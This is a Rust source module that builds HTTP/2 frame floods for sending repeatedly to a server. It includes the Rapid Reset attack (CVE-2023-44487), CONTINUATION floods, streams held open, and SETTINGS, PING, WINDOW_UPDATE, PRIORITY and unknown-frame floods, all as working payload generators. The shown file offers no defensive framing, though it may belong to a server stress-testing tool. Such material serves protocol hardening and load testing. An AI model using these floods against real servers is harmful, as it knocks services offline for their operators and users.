//! Frames of HTTP/2 that cost a client nothing, without end.

use std::sync::Arc;

use super::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, headers,
};

/// What is sent again and again, by the number of the time.
pub type Next = Arc<dyn Fn(u32) -> Vec<u8> + Send + Sync>;

/// A flood, with its name for people.
pub type Flood = (&'static str, Next);

/// Requests that are reset as soon as they are made (CVE-2023-44487).
pub fn rapid_reset(method: &str, path: &str) -> Next {
    let block = headers(method, path);
    Arc::new(move |n| {
        let stream = 2 * n + 1;
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    })
}

/// All kinds; `path` is one of a POST.
pub fn floods(path: &str) -> Vec<Flood> {
    let block = headers("POST", path);
    let after_call = |flags: u8, next: fn(u32) -> Vec<u8>| -> Next {
        let block = block.clone();
        Arc::new(move |n| if n == 0 { frame(HEADERS, flags, 1, &block) } else { next(n) })
    };
    let opening = block.clone();
    vec![
        ("rapid reset", rapid_reset("POST", path)),
        ("CONTINUATION, empty", after_call(0, |_| frame(CONTINUATION, 0, 1, &[]))),
        // A header of 16,256 bytes that goes into no table, nearly as much as a frame takes.
        (
            "CONTINUATION, full",
            after_call(0, |_| {
                frame(CONTINUATION, 0, 1, &[b"\x00\x01x\x7f\x81\x7e".as_slice(), &[b'x'; 16_256]].concat())
            }),
        ),
        (
            "headers of streams that stay open",
            Arc::new(move |n| frame(HEADERS, END_HEADERS, 2 * n + 1, &opening)),
        ),
        ("SETTINGS", Arc::new(|_| frame(SETTINGS, 0, 0, &[]))),
        (
            "SETTINGS that change a table",
            Arc::new(|n| frame(SETTINGS, 0, 0, &[&[0, 1][..], &(n % 4_096).to_be_bytes()].concat())),
        ),
        ("PING", Arc::new(|n| frame(PING, 0, 0, &u64::from(n).to_be_bytes()))),
        ("DATA, empty", after_call(END_HEADERS, |_| frame(DATA, 0, 1, &[]))),
        ("WINDOW_UPDATE", after_call(END_HEADERS, |n| frame(WINDOW_UPDATE, 0, n % 2, &[0, 0, 0, 1]))),
        ("PRIORITY", Arc::new(|n| frame(PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 1]))),
        ("a type that does not exist", Arc::new(|_| frame(0xfa, 0, 0, &[]))),
    ]
}
